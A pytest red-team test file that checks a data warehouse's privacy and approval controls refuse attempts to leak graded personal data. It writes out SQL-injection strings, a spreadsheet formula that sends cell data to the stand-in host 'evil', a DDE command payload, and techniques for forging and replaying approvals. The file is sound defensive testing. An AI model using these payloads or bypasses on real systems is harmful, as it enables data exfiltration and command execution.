"""Attempts to carry a value of grade 3 or 4 out as a product. Each fails."""

from __future__ import annotations

import csv
import json
import random
from datetime import timedelta
from typing import Any

import pyarrow as pa
import pytest
from deltalake import DeltaTable, write_deltalake

from catalog.errors import LakehouseError
from catalog.model import Product
from tests.delta_rows import rows_of
from tests.redteam.canaries import PERSONS
from tests.redteam.conftest import NOW, WORDS, Branch, Lake
from warehouse import approvals
from warehouse.release_private import BudgetSpent

pytestmark = [pytest.mark.slow, pytest.mark.airflow]

COUNTS: dict[str, Any] = {
    "formats": ["csv", "parquet"],
    "columns": {"street_code": {}, "sex_code": {}},
    "private_counts": {"person": "resident_key", "epsilon": 1.0, "budget": 2.0, "k": 5},
}


def test_take_a_column_nobody_graded(branch: Branch) -> None:
    assert "grade is not known" in branch.refuse(branch.product(columns={"household_key": {}}))


def test_state_a_lower_grade_than_the_table_has(branch: Branch) -> None:
    branch.refuse(branch.product(columns={"household_key": {"grade": 1}}))
    branch.refuse(branch.product(columns={"birth_date": {"grade": 1}}))


def test_rename_a_column_on_its_way_out(branch: Branch) -> None:
    branch.refuse(branch.product(columns={"remark": {"from": "household_key", "grade": 1}}))


def test_take_a_mask_that_lowers_too_little(branch: Branch) -> None:
    assert "above the product's bound 1" in branch.refuse(branch.product(max_grade=1))


def test_take_a_mask_that_is_not_registered(branch: Branch) -> None:
    assert "there is no mask" in branch.refuse(branch.product(columns={"birth_date": {"mask": "identity"}}))


def test_write_sql_where_a_column_is_named(branch: Branch) -> None:
    assert "no column" in branch.refuse(branch.product(columns={"x": {"from": "birth_date || ''", "grade": 1}}))
    assert "no column" in branch.refuse(
        branch.product(columns={"x": {"from": 'birth_date" AS y, "birth_date', "grade": 1}})
    )


def test_filter_by_a_hidden_value_to_learn_it(branch: Branch) -> None:
    where = {"birth_date": {"eq": PERSONS[0].birth.isoformat()}}
    branch.refuse(branch.product(columns={"sex_code": {}}, where=where))
    assert (
        approvals.approval_grade(
            branch.catalog, branch.product(columns={"sex_code": {}}, where=where).products["stolen"]
        )
        == 4
    )


def test_filter_by_sql(branch: Branch) -> None:
    branch.refuse(branch.product(columns={"sex_code": {}}, where={"1=1 or birth_date": {"eq": "x"}}))
    branch.refuse(branch.product(columns={"sex_code": {}}, where={"birth_date": {"is not null or": "x"}}))


def test_take_rows_of_grade_four_without_approval(branch: Branch) -> None:
    branch.refuse(branch.product(columns={"sex_code": {}, "street_code": {}}))


def test_take_rows_of_grade_four_with_every_approval(branch: Branch) -> None:
    catalog = branch.product(columns={"sex_code": {}, "street_code": {}, "birth_date": {}})
    asked = branch.ask(catalog)
    branch.agree(catalog, asked, "first")
    branch.agree(catalog, asked, "second")
    assert "counts" in branch.refuse(catalog)


def test_join_street_birth_and_sex_to_name_somebody(branch: Branch) -> None:
    quasi = {"columns": {"street_code": {}, "birth_date": {}, "sex_code": {}}}
    quasi["anonymity"] = {"quasi": ["street_code", "birth_date", "sex_code"], "k": 5, "suppress": True}
    branch.refuse(branch.product(**quasi))


def test_count_a_group_of_one(branch: Branch) -> None:
    catalog = branch.product(**COUNTS)
    asked = branch.ask(catalog)
    branch.agree(catalog, asked, "first")
    branch.agree(catalog, asked, "second")
    folder = branch.release(catalog)
    with (folder / "stolen.csv").open(encoding="utf-8-sig") as f:
        counts = [int(r[-1]) for r in list(csv.reader(f))[1:]]
    assert all(n >= 5 for n in counts)


def test_count_so_that_one_person_stands_in_many_cells(branch: Branch) -> None:
    """Whoever is in several rows would weigh more than the noise hides."""
    path = branch.settings.table_path("library", "population", "residents")
    rows = rows_of(path)
    other = rows.slice(0, 1).set_column(rows.schema.get_field_index("sex_code"), "sex_code", pa.array(["9"]))
    write_deltalake(path, pa.concat_tables([rows, other.cast(rows.schema)]), mode="overwrite")
    catalog = branch.product(**COUNTS)
    asked = branch.ask(catalog)
    branch.agree(catalog, asked, "first")
    branch.agree(catalog, asked, "second")
    assert "cells" in branch.refuse(catalog)


def test_ask_for_private_counts_until_the_noise_is_gone(branch: Branch) -> None:
    catalog = branch.product(**COUNTS)
    asked = branch.ask(catalog)
    branch.agree(catalog, asked, "first")
    branch.agree(catalog, asked, "second")
    path = branch.settings.table_path("library", "population", "residents")
    for day in range(2):
        branch.release(catalog, NOW + timedelta(days=day))
        _drop_one(path)
    from warehouse.publish import publish

    with pytest.raises(BudgetSpent):
        publish(branch.settings, catalog, "stolen", now=NOW + timedelta(days=2))


def _drop_one(path: str) -> None:
    rows = rows_of(path)
    write_deltalake(path, rows.slice(1), mode="overwrite")


def test_repeat_a_private_count_without_spending(branch: Branch) -> None:
    catalog = branch.product(**COUNTS)
    asked = branch.ask(catalog)
    branch.agree(catalog, asked, "first")
    branch.agree(catalog, asked, "second")
    first = branch.release(catalog)
    assert branch.release(catalog, NOW + timedelta(days=1)) == first


def test_publish_people_by_community_with_small_cells(lake: Lake) -> None:
    """The released table of the house itself: no cell of fewer than five persons."""
    found = list((lake.settings.releases / "population_by_community").rglob("*.csv"))
    assert found
    for file in found:
        if file.name == "dictionary.csv":
            continue
        with file.open(encoding="utf-8-sig") as f:
            rows = list(csv.DictReader(f))
        counts = [int(v) for r in rows for k, v in r.items() if ("人数" in k or "count" in k) and v]
        assert all(n >= 5 or n == 0 for n in counts)


def _people(branch: Branch, rows: dict[str, list[Any]]) -> None:
    write_deltalake(branch.settings.table_path("library", "open", "people"), pa.table(rows), mode="overwrite")


def test_carry_ids_in_a_column_declared_open(branch: Branch) -> None:
    ids = [c.resident_id for c in PERSONS]
    _people(branch, {"serial": ids, "remark": ["x"] * len(ids)})
    assert "look like" in branch.refuse(branch.product(table="open.people", columns={"serial": {"grade": 1}}))


def test_carry_ids_inside_longer_tokens(branch: Branch) -> None:
    ids = [f"{c.resident_id}F0" for c in PERSONS]
    _people(branch, {"serial": ids})
    assert "look like" in branch.refuse(branch.product(table="open.people", columns={"serial": {"grade": 1}}))


def test_carry_phones_in_a_remark(branch: Branch) -> None:
    _people(branch, {"remark": [f"联系{c.phone}" for c in PERSONS]})
    assert "look like" in branch.refuse(branch.product(table="open.people", columns={"remark": {}}))


def test_release_a_group_below_k(branch: Branch) -> None:
    _people(branch, {"street": ["a"] * 5 + ["b"] * 4})
    spec = {"quasi": ["street"], "k": 5}
    columns = {"street": {"grade": 2}}
    assert "fewer than 5" in branch.refuse(branch.product(table="open.people", columns=columns, anonymity=spec))


def test_release_a_group_that_betrays_its_secret(branch: Branch) -> None:
    _people(branch, {"street": ["a"] * 6, "illness": ["x"] * 6})
    spec = {"quasi": ["street"], "k": 5, "sensitive": "illness", "l": 2}
    columns = {"street": {"grade": 2}, "illness": {"grade": 2}}
    branch.refuse(branch.product(table="open.people", columns=columns, anonymity=spec))


def test_go_below_k_by_an_update(branch: Branch) -> None:
    columns = {"street": {"grade": 2}, "n": {"grade": 1}}
    catalog = branch.product(table="open.people", columns=columns, anonymity={"quasi": ["street"], "k": 5})
    _people(branch, {"street": ["a"] * 5, "n": [1, 2, 3, 4, 5]})
    branch.release(catalog)
    _people(branch, {"street": ["a"] * 4, "n": [1, 2, 3, 4]})
    from warehouse.publish import publish

    with pytest.raises(LakehouseError, match="fewer than 5"):
        publish(branch.settings, catalog, "stolen", now=NOW + timedelta(days=1))


def test_strip_the_watermark_by_sorting_and_dropping(branch: Branch) -> None:
    from warehouse.release_watermark import who_leaked

    _people(branch, {"n": list(range(400)), "arrears_cny": [100 + i * 1.37 for i in range(400)]})
    columns = {"n": {"grade": 1}, "arrears_cny": {"label": "欠缴"}}
    spec = {"watermark": {"arrears_cny": {"digits": 2}}, "recipients": ["health", "civil_affairs"]}
    catalog = branch.product(table="open.people", columns=columns, **spec)
    folder = branch.release(catalog)
    with (folder / "health" / "stolen.csv").open(encoding="utf-8-sig", newline="") as f:
        head, *rows = list(csv.reader(f))
    kept = random.Random(1).sample(rows, 200)
    leaked = branch.settings.home / "leaked.csv"
    with leaked.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([r[1:] for r in sorted(kept, key=lambda r: r[1])])
    assert head
    assert [m.recipient for m in who_leaked(branch.settings, catalog, leaked, "stolen") if m.is_named] == ["health"]


def test_make_a_cell_of_a_spreadsheet_run(branch: Branch) -> None:
    import zipfile

    _people(branch, {"entity_name": ['=HYPERLINK("http://evil/?"&A1)', "@SUM(1)", "+1+cmd|' /C calc'!A0", "平常"]})
    catalog = branch.product(table="open.people", columns={"entity_name": {}}, formats=["csv", "xlsx"])
    folder = branch.release(catalog)
    with (folder / "stolen.csv").open(encoding="utf-8-sig", newline="") as f:
        assert not any(r[0].startswith(("=", "@", "+")) for r in csv.reader(f))
    with zipfile.ZipFile(folder / "stolen.xlsx") as book:
        assert not any(b"<f>" in book.read(name) or b"<hyperlink" in book.read(name) for name in book.namelist())


# --- approval ----------------------------------------------------------------------------------------------------


@pytest.fixture
def three(branch: Branch) -> Any:
    """A product of grade 3 that one approval lets go."""
    _people(branch, {"person": ["王小甲"] * 6})
    return branch.product(table="open.people", columns={"person": {"grade": 3, "mask": "partial_name"}})


def test_release_grade_three_without_asking(branch: Branch, three: Any) -> None:
    assert "not approved" in branch.refuse(three)


def test_approve_a_request_of_ones_own(branch: Branch, three: Any) -> None:
    asked = branch.ask(three)
    with pytest.raises(LakehouseError, match="does not approve it"):
        branch.agree(three, asked, "asker")
    branch.refuse(three)


def test_approve_with_a_guessed_passphrase(branch: Branch, three: Any) -> None:
    asked = branch.ask(three)
    with pytest.raises(LakehouseError, match="passphrase"):
        branch.agree(three, asked, "first", passphrase="first walks along the road")
    branch.refuse(three)


def _row(branch: Branch, **where: str) -> dict[str, Any]:
    rows = rows_of(branch.settings.platform_path("approvals")).to_pylist()
    return next(r for r in rows if all(r[k] == v for k, v in where.items()))


def _write(branch: Branch, row: dict[str, Any]) -> None:
    table = pa.Table.from_pylist([row], schema=approvals._schema())
    write_deltalake(branch.settings.platform_path("approvals"), table, mode="append")


def test_write_an_approval_into_the_table(branch: Branch, three: Any) -> None:
    asked = branch.ask(three)
    row = {**_row(branch, request=asked.id), "action": "approve", "person": "first"}
    row["signature"] = approvals._private_key("asker", WORDS["asker"]).sign(approvals._payload(row)).hex()
    _write(branch, row)
    branch.refuse(three)


def test_replay_an_approval_of_another_request(branch: Branch, three: Any) -> None:
    other = branch.ask(three, purpose="另一目的", days=1)
    branch.agree(three, other, "first")
    asked = branch.ask(three)
    _write(branch, {**_row(branch, action="approve"), "request": asked.id})
    branch.refuse(three, NOW + timedelta(days=2))


def test_release_after_the_approval_ended(branch: Branch, three: Any) -> None:
    branch.agree(three, branch.ask(three, days=5), "first")
    branch.refuse(three, NOW + timedelta(days=6))


def test_stretch_an_approval_that_ended(branch: Branch, three: Any) -> None:
    branch.agree(three, branch.ask(three, days=5), "first")
    for action in ("request", "approve"):
        row = _row(branch, action=action)
        _write(branch, {**row, "expires_at": row["expires_at"] + timedelta(days=300)})
    branch.refuse(three, NOW + timedelta(days=6))


def test_change_the_product_after_its_approval(branch: Branch, three: Any) -> None:
    branch.agree(three, branch.ask(three), "first")
    wider = three.products["stolen"].model_dump() | {"recipients": ["health", "tax"]}
    branch.refuse(three.model_copy(update={"products": {"stolen": Product.model_validate(wider)}}))


def test_revive_a_refused_request_by_deleting_its_row(branch: Branch, three: Any) -> None:
    asked = branch.ask(three)
    branch.agree(three, asked, "first")
    approvals.reject(
        branch.settings, three, asked.id, person="second", passphrase=WORDS["second"], now=NOW, comment="不同意"
    )
    DeltaTable(branch.settings.platform_path("approvals")).delete("action = 'revoke'")
    branch.refuse(three)


def test_approve_for_somebody_who_never_enrolled(branch: Branch, three: Any) -> None:
    asked = branch.ask(three)
    with pytest.raises(LakehouseError):
        approvals.approve(
            branch.settings, three, asked.id, person="nobody", passphrase="nobody walks along the moat", now=NOW
        )
    branch.refuse(three)


def test_release_to_somebody_the_approval_does_not_name(branch: Branch) -> None:
    _people(branch, {"person": ["王小甲"] * 6})
    catalog = branch.product(
        table="open.people", columns={"person": {"grade": 3, "mask": "partial_name"}}, recipients=["health", "tax"]
    )
    branch.agree(catalog, branch.ask(catalog, recipients=["health"]), "first")
    assert "tax" in branch.refuse(catalog)


def test_find_the_rows_in_what_a_refused_release_left(branch: Branch) -> None:
    branch.refuse(branch.product())
    events = [json.loads(x) for x in (branch.settings.home / "audit" / "log.jsonl").read_text().splitlines()]
    assert events[-1]["event"] == "release.refused"
    assert not list(branch.settings.releases.rglob("*.parquet"))
